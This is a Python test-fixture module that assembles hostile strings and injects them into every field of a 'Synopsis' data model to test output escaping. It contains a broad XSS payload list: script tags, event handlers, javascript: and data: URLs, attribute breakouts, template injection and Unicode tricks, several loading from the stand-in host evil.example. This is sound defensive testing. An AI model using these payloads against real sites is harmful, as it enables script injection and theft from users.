"""Hostile words for every field of a synopsis, and a synopsis poisoned with them.

What would run sets `hit` on the window or asks the network for `https://evil.example`; neither may ever happen.
"""

from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any, cast

from synoptic.model import Span, Synopsis

EVIL = "evil.example"

_ACTIONS = (
    "<script>hit=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=hit=1>",
    "<img/src=`x`onerror=hit=1//",
    "<svg onload=hit=1>",
    "<svg><script>hit=1</script></svg>",
    "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    "<math><mtext><img src onerror=hit=1></mtext></math>",
    "<iframe src=javascript:hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button autofocus onfocus=hit=1>",
    "<input autofocus onfocus=hit=1>",
    "<details open ontoggle=hit=1>",
    "<video><source onerror=hit=1></video>",
    "<body onload=hit=1>",
    "<a href=javascript:hit=1 autofocus onfocus=hit=1>x</a>",
    "<template><script>hit=1</script></template>",
)
_ESCAPES = ("", '">', "'>", "-->", "</title>", "</style>", "</script>")
_ATTRIBUTES = (
    '" onmouseover="hit=1" x="',
    "' onfocus='hit=1' autofocus='",
    '" style="background:url(https://evil.example/x)" x="',
    '" autofocus tabindex=1 onfocus=hit=1 x="',
    "` onclick=hit=1 `",
    "x onerror=hit=1 y",
    '"></a><a href="javascript:hit=1">',
    '" srcdoc="<script>parent.hit=1</script>',
)
_ADDRESSES = (
    "javascript:hit=1",
    "JaVaScRiPt:hit=1",
    "java\tscript:hit=1",
    "\x01javascript:hit=1",
    " javascript:hit=1",
    "javascript&colon;hit=1",
    "javascript:hit=1//https://evil.example",
    "data:text/html,<script>parent.hit=1</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==",
    "vbscript:hit=1",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/x",
    "https://good.example@evil.example/",
    'https://evil.example/"onmouseover=hit=1',
    "https://[evil.example",
    "about:srcdoc",
)
_ENTITIES = (
    "&lt;script&gt;hit=1&lt;/script&gt;",
    "&#60;img src=x onerror=hit=1&#62;",
    "&#x3c;svg onload=hit=1&#x3e;",
    "&Tab;&NewLine;&nbsp;&amp;amp;",
    "&quot;&apos; onload=hit=1",
    "&",
    "&#0;&#xD800;&#x110000;",
)
_CHARACTERS = (
    "\x00<script>hit=1</script>",
    "<scr\x00ipt>hit=1</scr\x00ipt>",
    "\x1b[2J\x1b]0;title\x07",
    "\u202egnp.exe",
    "\u2066left\u2069\u200frtl\u200e",
    "\u2028hit=1\u2029",
    "\ufeff\ufffe\uffff",
    "\U000e0041\U000e0042tags",
    "\ud800 alone \udfff",
    "\ud83d\ude00",
    "a" + "\u0301" * 500,
    "\u0085\u00a0\u3000",
    "＜script＞hit=1＜/script＞",
    "\x7f\x80\x9b31m",
    "עברית ثم العربية \u202b then",
)
_CODES = (
    "{{hit=1}}",
    "{% include 'x' %}",
    "${hit=1}",
    "<%= hit=1 %>",
    "{{constructor.constructor('hit=1')()}}",
    "`${hit=1}`",
    "');hit=1;//",
    '";hit=1;//',
    '\\";hit=1;//',
    "\\u003cscript\\u003ehit=1\\u003c/script\\u003e",
    "expression(hit=1)",
    "}*{background:url(https://evil.example)}",
    "/*</style><script>hit=1</script>*/",
    "<!--<script>hit=1//-->",
    "<![CDATA[<script>hit=1</script>]]>",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "<plaintext>",
    "<!doctype html><frameset onload=hit=1>",
    "</main></body></html><script>hit=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=hit=1>'>",
    "<textarea></title><img src=x onerror=hit=1>",
    "<select><style></select><img src=x onerror=hit=1></style>",
)
_MARKDOWN = (
    "[x](javascript:hit=1)",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "[x]: https://evil.example\n[x]",
    "```\n</code><script>hit=1</script>",
    "| a | b |\n|---|---|\n| <script>hit=1</script> |",
    "# heading\n---\n* list",
    "\\[x\\]\\(javascript:hit=1\\)",
)
_SHAPES = ("x" * 20_000, "<" * 3_000, "&" * 3_000, '"' * 3_000, "<div>" * 600, " " * 2_000, "", "\n\n\n")

# What is hostile in what it says; the shapes are so in their size alone, and slow for readers of Markdown.
WORDINGS = (
    *(escape + action for escape in _ESCAPES for action in _ACTIONS),
    *_ATTRIBUTES,
    *_ADDRESSES,
    *_ENTITIES,
    *_CHARACTERS,
    *_CODES,
    *_MARKDOWN,
)
PAYLOADS = (*WORDINGS, *_SHAPES)

# Fields that name another object: their values stay the same as one another's, and are hostile all the same.
_REFERENCES = frozenset(
    ("id", "article", "articles", "statement", "statements", "claims", "entity", "voice", "seat_of", "source", "copy", "times", "origins", "alone")
)


def poisoned(synopsis: Synopsis, payload: str) -> Synopsis:
    """The synopsis with the payload in every field that holds words; ids stay apart from one another and keep what they refer to.

    Every text begins with the payload; every other span is that of the payload itself, the rest keep their place.
    """
    return cast("Synopsis", _poison(synopsis, payload, "", _Alternating()))


class _Alternating:
    """True and False by turns."""

    def __init__(self) -> None:
        self._last = False

    def __call__(self) -> bool:
        self._last = not self._last
        return self._last


def _poison(value: Any, payload: str, name: str, turn: _Alternating) -> Any:  # noqa: ANN401 - any field of the model
    if isinstance(value, Span):
        length = len(payload) + 1
        return Span(0, len(payload)) if turn() else Span(value.start + length, value.end + length)
    if isinstance(value, str) and not isinstance(value, Enum):
        return f"{payload}#{value}" if name in _REFERENCES else f"{payload} {value}" if name == "text" else payload
    if isinstance(value, tuple):
        return tuple(_poison(part, payload, name, turn) for part in value)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{field.name: _field(getattr(value, field.name), field.name, payload, turn) for field in fields(value)})
    return value


def _field(value: Any, name: str, payload: str, turn: _Alternating) -> Any:  # noqa: ANN401 - any field of the model
    if name == "values":
        return tuple((f"{payload}#{article}", payload) for article, _ in value)
    return payload if value is None and name in _OPTIONAL else _poison(value, payload, name, turn)


_OPTIONAL = frozenset(("outlet", "agency", "byline", "title", "published", "modified", "url", "language", "speaker"))


def words_of(synopsis: Synopsis) -> Iterator[str]:
    """Every string in a synopsis, in order."""
    yield from _words(synopsis)


def _words(value: Any) -> Iterator[str]:  # noqa: ANN401 - any field of the model
    if isinstance(value, str) and not isinstance(value, Enum):
        yield value
    elif isinstance(value, tuple):
        for part in value:
            yield from _words(part)
    elif is_dataclass(value):
        for field in fields(value):
            yield from _words(getattr(value, field.name))
